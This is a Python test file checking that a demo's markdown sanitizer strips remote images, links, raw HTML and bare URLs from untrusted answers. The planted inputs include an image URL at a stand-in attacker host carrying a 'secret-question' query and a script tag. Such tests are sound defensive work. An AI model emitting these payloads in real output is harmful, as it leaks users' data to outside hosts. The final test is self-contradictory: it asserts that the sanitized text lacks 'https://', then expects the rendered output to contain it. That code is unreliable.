"""The demo shows answers and document snippets, which are untrusted: nothing in them may make
the viewer's browser load a remote resource or run HTML."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from demo.render import safe_markdown
from tests.support.complexity import assert_linear

pytestmark = pytest.mark.unit

MARKDOWN = MarkdownIt("commonmark", {"html": True, "linkify": False})


@pytest.mark.parametrize(
    "planted",
    [
        "See ![logo](https://evil.example/collect?q=secret-question) here.",
        "Click [docs](https://evil.example/?q=x) now.",
        '<img src="https://evil.example/p.png"> and <script>alert(1)</script>',
        "[ref]: https://evil.example/?q=x\n\nSee [it][ref].",
        "!\\[escaped](https://evil.example/x)",
    ],
    ids=["image", "link", "html", "reference", "escaped-image"],
)
def test_untrusted_markdown_loses_every_remote_target(planted: str) -> None:
    html = MARKDOWN.render(safe_markdown(planted))  # a CommonMark renderer, as the browser gets it
    assert "<img" not in html and "<script" not in html and "href=" not in html, html


def test_ordinary_answers_keep_their_text_and_citations() -> None:
    answer = "Backups are kept for **35 days** [1][2].\n\n- nightly\n- encrypted"
    assert safe_markdown(answer) == answer
    assert "<strong>35 days</strong> [1][2]" in MARKDOWN.render(safe_markdown(answer))


def test_rendering_is_linear_on_hostile_input() -> None:
    assert_linear(lambda n: safe_markdown("![" * n + "[" * n + "](" * n), 5_000)


def test_bare_urls_stay_text_for_renderers_that_autolink_them() -> None:
    shown = safe_markdown("Send it to https://evil.example/?q=x or www.evil.example today.")
    assert "https://" not in shown and "www." not in shown  # GFM autolinks both
    assert (
        MARKDOWN.render(shown) == "<p>Send it to https://evil.example/?q=x or www.evil.example today.</p>\n"
    )
